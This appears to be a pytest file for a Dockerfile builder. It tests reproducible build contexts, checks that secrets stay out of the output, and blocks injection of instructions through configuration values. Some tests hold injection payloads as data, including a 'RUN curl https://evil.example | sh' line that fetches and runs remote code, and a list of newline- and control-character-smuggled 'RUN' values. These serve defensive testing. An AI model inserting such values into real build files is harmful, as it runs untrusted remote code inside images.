"""Rendering: golden Dockerfiles, the same bytes everywhere, and nothing in them that does not belong there."""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from builder import render as module
from builder.errors import UsageError
from builder.lock import Lock, lock_path, read_lock
from builder.matrix import LoadedMatrix, MatrixError, load
from builder.render import Rendered, base_digest, quoted, render
from builder.supply import Supplies
from tests.made import ROOT, artefact, direct, golden, lacking, lock_of, tiny

UV = Path("/usr/bin/env")
NEXT = ROOT / "matrices" / "cu130-next.yaml"

MANY = """\
extras: [part==1.0]
indexes: {site: {url: https://wheels.example/cu130, packages: [part]}}
environment: {MODE: "it's # a 'value'", EMPTY_ISH: " ", PERCENT: "100% {x}"}
labels: {com.example.team: "inference, 'eu'"}
"""


def many() -> tuple[LoadedMatrix, Lock, dict[str, Path]]:
    """A matrix with everything that is optional, without a compiler."""
    loaded = tiny(MANY, name="many", stack="{torch: 2.11.0, sgl-kernel: 0.3.21+cu130}")
    kernel = direct("sgl-kernel", "0.3.21+cu130", metadata_version="0.3.21")
    lock = lock_of(
        loaded.matrix,
        artefact("torch", "2.11.0", layer="torch", size=500_000_000),
        artefact("idna", "3.7"),
        artefact("part", "1.0", index="site"),
        kernel,
    )
    return loaded, lock, {kernel.file: UV}


def stable(rendered: Rendered) -> str:
    """The Dockerfile, less the digest of the base image: that one changes with every byte of finish.py."""
    name = f"sglang-stack-base:debian-bookworm-{base_digest(rendered.plan.matrix, rendered.plan.lock)[:12]}"
    assert rendered.dockerfile.count(name) == 1
    return rendered.dockerfile.replace(name, "sglang-stack-base:debian-bookworm-BASE")


def tiny_rendered() -> Rendered:
    return render(tiny().matrix, lock_of(tiny().matrix, artefact("idna", "3.7")), UV)


# --- golden files -----------------------------------------------------------------------------------------------------


def test_the_dockerfile_of_the_default_matrix() -> None:
    rendered = render(load(NEXT).matrix, read_lock(lock_path(NEXT)), UV)
    golden("cu130-next.Dockerfile", stable(rendered))


def test_the_dockerfile_of_a_stack_without_torch() -> None:
    golden("tiny.Dockerfile", stable(tiny_rendered()))


def test_the_dockerfile_with_an_index_direct_files_environment_and_labels() -> None:
    loaded, lock, wheels = many()
    golden("many.Dockerfile", stable(render(loaded.matrix, lock, UV, Supplies(wheels))))


def compiling() -> Rendered:
    """A stack whose build compiles flashinfer's fused all-reduce."""
    cuda = (
        "{version: 13.0.2, compiler: {nvidia-cuda-nvcc: 13.0.88, nvidia-nvvm: 13.0.88, nvidia-cuda-crt: 13.0.88, "
        "nvidia-cuda-cccl: 13.0.85}}"
    )
    extra = "patches: {sm120: {allreduce_fusion: opt-in}}\n"
    matrix = tiny(extra, name="compiling", cuda=cuda, gpus='["12.0", "9.0"]').matrix
    lock = lock_of(
        matrix,
        artefact("nvidia-cuda-nvcc", "13.0.88", layer="torch"),
        artefact("flashinfer-python", "0.6.12", layer="flashinfer"),
        artefact("sglang", "0.5.9", layer="sglang"),
    )
    return render(matrix, lock, UV)


def test_the_dockerfile_of_a_stack_that_compiles() -> None:
    golden("compiling.Dockerfile", stable(compiling()))


def test_what_compiles_is_in_the_context_where_it_is_used_and_no_part_of_the_test() -> None:
    assert "compile/precompile.py" in compiling().context
    assert "compile/precompile.py" not in tiny_rendered().context
    assert "smoke/builder/smoke/precompile.py" not in compiling().context


def test_the_smoke_test_has_all_that_it_imports() -> None:
    prefix = "smoke/builder/"
    files = {
        f"builder/{name.removeprefix(prefix)}": data
        for name, data in compiling().context.items()
        if name.startswith(prefix)
    }
    assert {"builder/smoke/__main__.py", "builder/elf.py", "builder/fatbin.py", "builder/arch.py"} <= files.keys()
    assert lacking(files) == set()


def test_the_files_of_a_build_context() -> None:
    loaded, lock, wheels = many()
    rendered = render(loaded.matrix, lock, UV, Supplies(wheels))
    listed = [name for name in sorted([*rendered.context, *rendered.links]) if not name.startswith("smoke/")]
    assert listed == [
        "layers/kernels/files.txt",
        "layers/kernels/wheels/sgl_kernel-0.3.21+cu130-py3-none-any.whl",
        "layers/rest/default.txt",
        "layers/rest/site.txt",
        "layers/torch/default.txt",
        "native.json",
        "proof/about.json",
        "proof/lock.json",
        "proof/spec.json",
        "tools/finish.py",
        "tools/site.sh",
        "tools/uv",
    ]


def test_what_an_image_will_say_of_itself() -> None:
    loaded, lock, wheels = many()
    said = json.loads(render(loaded.matrix, lock, UV, Supplies(wheels)).context["proof/about.json"])
    assert said == {
        "matrix": "many",
        "summary": "A tiny stack",
        "stand_in": "",
        "lock": lock.digest,
        "as_of": "2026-03-01",
        "system": "debian bookworm, 2 packages",
        "python": "3.11",
        "cuda": "13.0.2, no compiler (jit: none)",
        "gpus": ["12.0"],
        "patches": [],
        "stack": [["torch", "2.11.0"], ["sgl-kernel", "0.3.21+cu130"]],
        "sglang": False,
    }


# --- the same bytes everywhere ----------------------------------------------------------------------------------------

ELSEWHERE = """\
import os, sys
from pathlib import Path
os.umask(0o077)
sys.path.insert(0, sys.argv[1])
from tests.unit.test_render import tiny_rendered
rendered = tiny_rendered()
rendered.write(Path("context"))
print(rendered.digest)
for path in sorted(Path("context").rglob("*")):
    if path.is_file():
        print(path, oct(path.stat().st_mode & 0o777))
"""


def test_a_context_does_not_depend_on_place_umask_time_zone_or_locale(tmp_path: Path) -> None:
    answers = []
    for place, zone, hashes in (("a", "UTC", "1"), ("b", "Pacific/Auckland", "2")):
        (tmp_path / place).mkdir()
        environment = {"PATH": os.environ["PATH"], "TZ": zone, "LC_ALL": "C", "PYTHONHASHSEED": hashes, "HOME": "/none"}
        done = subprocess.run(
            [sys.executable, "-c", ELSEWHERE, str(ROOT)],
            cwd=tmp_path / place,
            env=environment,
            capture_output=True,
            text=True,
            check=True,
        )
        answers.append(done.stdout)
    assert answers[0] == answers[1]
    here = tiny_rendered()
    assert answers[0].splitlines()[0] == here.digest
    assert "context/proof/lock.json 0o644\n" in answers[0]


def test_two_renderings_are_equal() -> None:
    one, two = tiny_rendered(), tiny_rendered()
    assert (one.dockerfile, one.context, one.digest) == (two.dockerfile, two.context, two.digest)


@pytest.mark.parametrize(
    "change", [{"summary": "Another summary"}, {"gpus": '["9.0"]'}, {"as_of": "2026-03-02"}], ids=str
)
def test_what_changes_the_image_changes_the_digest(change: dict[str, str]) -> None:
    matrix = tiny(**change).matrix
    assert render(matrix, lock_of(matrix, artefact("idna", "3.7")), UV).digest != tiny_rendered().digest


def test_writing_again_changes_nothing(tmp_path: Path) -> None:
    rendered = tiny_rendered()
    rendered.write(tmp_path)
    before = {path: path.stat() for path in tmp_path.rglob("*")}
    rendered.write(tmp_path)
    after = {path: path.stat() for path in tmp_path.rglob("*")}
    assert {p: (s.st_ino, s.st_mtime_ns) for p, s in before.items() if stat.S_ISREG(s.st_mode)} == {
        p: (s.st_ino, s.st_mtime_ns) for p, s in after.items() if stat.S_ISREG(s.st_mode)
    }
    assert before.keys() == after.keys()


def test_a_file_that_is_right_keeps_its_time_since_another_would_send_it_again(tmp_path: Path) -> None:
    rendered = tiny_rendered()
    rendered.write(tmp_path)
    os.utime(tmp_path / "native.json", (7, 7))
    rendered.write(tmp_path)
    assert (tmp_path / "native.json").stat().st_mtime == 7


def test_what_no_longer_belongs_to_a_context_is_removed(tmp_path: Path) -> None:
    loaded, lock, wheels = many()
    render(loaded.matrix, lock, UV, Supplies(wheels)).write(tmp_path)
    (tmp_path / "stale" / "deep").mkdir(parents=True)
    (tmp_path / "stale" / "deep" / "file").write_text("x")
    (tmp_path / "proof" / "old.json").write_text("x")
    rendered = tiny_rendered()
    rendered.write(tmp_path)
    found = {str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*") if path.is_file()}
    assert found == {*rendered.context, *rendered.links, "Dockerfile"}
    assert not (tmp_path / "stale").exists()
    assert not (tmp_path / "layers" / "kernels").exists()


def test_a_file_that_was_changed_is_written_anew(tmp_path: Path) -> None:
    rendered = tiny_rendered()
    rendered.write(tmp_path)
    (tmp_path / "native.json").write_text("changed")
    rendered.write(tmp_path)
    assert (tmp_path / "native.json").read_bytes() == rendered.context["native.json"]


def test_large_files_are_linked_and_replaced_with_their_source(tmp_path: Path) -> None:
    source = tmp_path / "uv"
    source.write_bytes(b"one")
    matrix = tiny().matrix
    rendered = render(matrix, lock_of(matrix), source)
    rendered.write(tmp_path / "context")
    assert (tmp_path / "context" / "tools" / "uv").samefile(source)
    source.unlink()
    source.write_bytes(b"two")
    rendered.write(tmp_path / "context")
    assert (tmp_path / "context" / "tools" / "uv").read_bytes() == b"two"


# --- what must not be in it -------------------------------------------------------------------------------------------


def everything(rendered: Rendered) -> str:
    return rendered.dockerfile + "".join(data.decode() for data in rendered.context.values())


def test_there_is_no_parser_directive() -> None:
    loaded, lock, wheels = many()
    for rendered in (tiny_rendered(), render(loaded.matrix, lock, UV, Supplies(wheels))):
        assert not re.match(r"\s*(#|//)\s*[A-Za-z]+\s*=", rendered.dockerfile)
        assert not re.search(r"^#\s*syntax\s*=", rendered.dockerfile, re.MULTILINE)


def test_nothing_of_the_site_is_in_dockerfile_or_context(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    secrets = {
        "BUILDER_INDEX": "https://me:hunter2@wheels.example/site-index",
        "BUILDER_ARCHIVE": "https://archive.example/site-archive",
        "https_proxy": "http://me:hunter2@proxy.example:3128",
    }
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    (tmp_path / "site-ca.pem").write_text("site-authority")
    monkeypatch.setenv("BUILDER_CA", str(tmp_path / "site-ca.pem"))
    loaded, lock, wheels = many()
    text = everything(render(loaded.matrix, lock, UV, Supplies(wheels)))
    words = ("hunter2", "proxy.example", "site-index", "site-archive", "site-ca.pem", "site-authority", str(tmp_path))
    assert [word for word in words if word in text] == []
    # The matrix's own index is not the site's, and still goes in as a secret: its mirror may have credentials.
    assert "https://wheels.example/cu130" not in text


def test_nothing_of_this_machine_is_in_dockerfile_or_context() -> None:
    import platform

    text = everything(tiny_rendered())
    assert str(ROOT) not in text
    assert len(platform.node()) < 6 or platform.node() not in text


def test_every_step_that_installs_mounts_the_secrets_and_bakes_none_in() -> None:
    loaded, lock, wheels = many()
    text = render(loaded.matrix, lock, UV, Supplies(wheels)).dockerfile
    steps = re.split(r"\n(?=[A-Z]+ )", text)
    installing = [step for step in steps if "install_from" in step]
    assert len(installing) == 3
    for step in installing:
        # The address of an index goes to the steps that install from it, and files of this machine need nothing.
        if re.findall(r"install_from (\w+)", step) == ["files"]:
            assert "type=secret" not in step
            continue
        named = ["index-site"] if "install_from site" in step else []
        assert re.findall(r"id=([a-z-]+)", step) == ["ca", "proxies", "netrc", "index", *named]
    assert any("install_from site" in step for step in installing)
    assert not [step for step in steps if step.startswith("ARG ")]


def test_a_site_mounts_the_secrets_that_it_has_and_no_others() -> None:
    loaded, lock, wheels = many()
    rendered = render(loaded.matrix, lock, UV, Supplies(wheels))
    built = rendered.for_site(["ca", "index-site"])
    assert set(re.findall(r"id=([a-z-]+)", built.dockerfile)) == {"ca", "index-site"}
    assert set(re.findall(r"id=([a-z-]+)", rendered.for_site([]).dockerfile)) == set()
    dropped = [line for line in rendered.dockerfile.splitlines() if line not in built.dockerfile.splitlines()]
    assert {re.sub(r"target=.*", "", line.strip()) for line in dropped} == {
        "--mount=type=secret,id=index,",
        "--mount=type=secret,id=netrc,",
        "--mount=type=secret,id=proxies,",
    }


def test_the_smoke_test_has_no_network_and_the_image_depends_on_it() -> None:
    text = tiny_rendered().dockerfile
    proofs = [step for step in text.split("RUN ") if "builder.smoke" in step]
    assert len(proofs) == 2
    assert all(step.startswith("--network=none ") for step in proofs)
    assert "--mount=type=bind,from=proof_sglang,source=/proof,target=/mnt/passed" in text
    assert "|| true" not in text


# --- nothing a matrix says can add an instruction ---------------------------------------------------------------------


@pytest.mark.parametrize("field", ["summary", "python", "gpus"])
def test_a_matrix_value_with_a_line_break_and_an_instruction(field: str) -> None:
    with pytest.raises(MatrixError):
        tiny(**{field: '"x\\nRUN curl https://evil.example | sh"'})


@pytest.mark.parametrize("extra", ["environment: {A: %s}\n", "labels: {a: %s}\n", "extras: [%s]\n"])
def test_an_optional_value_with_a_line_break_and_an_instruction(extra: str) -> None:
    with pytest.raises(MatrixError):
        tiny(extra % '"x\\nRUN curl https://evil.example | sh"')


HOSTILE = [
    "x\nRUN evil",
    "RUN --mount=type=bind\nRUN evil",
    "ENV PATH=/x\nRUN evil",
    "x\rRUN evil",
    "x\u2028RUN evil",
    "x\x85RUN evil",
    "x\x00",
    "x\x1b[2J",
]


@pytest.mark.parametrize("value", HOSTILE, ids=ascii)
@pytest.mark.parametrize("field", ["summary", "name", "environment", "labels"])
def test_a_value_that_a_model_let_through_is_stopped_at_the_template(field: str, value: str) -> None:
    matrix = tiny().matrix
    lock = lock_of(matrix, artefact("idna", "3.7"))
    changed = {"environment": {"A": value}, "labels": {"a": value}}.get(field, value)
    with pytest.raises(UsageError) as caught:
        render(matrix.model_copy(update={field: changed}), lock, UV)
    assert str(caught.value).startswith(
        "error: a value may not reach a Dockerfile\n  because: it holds a line break or"
    )
    assert str(caught.value).endswith("\n  hint: this is a fault of the builder: a model let it through")


@pytest.mark.parametrize("value", HOSTILE, ids=ascii)
@pytest.mark.parametrize("field", ["python", "index", "digest"])
def test_a_lock_value_that_a_model_let_through_is_stopped_at_the_template(field: str, value: str) -> None:
    matrix = tiny().matrix
    if field == "index":
        lock = lock_of(matrix, artefact("idna", "3.7").model_copy(update={"index": value}))
    else:
        lock = lock_of(matrix, artefact("idna", "3.7")).model_copy(update={"python": value})
    with pytest.raises(UsageError, match="a value may not reach a Dockerfile"):
        render(matrix, lock, UV)


def test_no_template_defines_a_macro_or_marks_text_as_safe() -> None:
    for path in (ROOT / "templates").rglob("*.j2"):
        text = path.read_text()
        assert not re.search(r"\{%-?\s*(macro|call|filter|autoescape|import|from|block|extends)\b|\|\s*safe", text), (
            path
        )


@pytest.mark.parametrize(
    ("value", "word"),
    [
        ("plain", '"plain"'),
        ('say "x"', '"say \\"x\\""'),
        ("$HOME ${X}", '"\\$HOME \\${X}"'),
        ("back\\slash", '"back\\\\slash"'),
        ("it's", '"it\'s"'),
        ("", '""'),
    ],
)
def test_a_word_is_quoted_so_that_nothing_expands(value: str, word: str) -> None:
    assert quoted(value) == word


def test_templates_undefined_names_are_errors() -> None:
    import jinja2

    with pytest.raises(jinja2.UndefinedError):
        module._environment().from_string("{{ nothing }}").render()
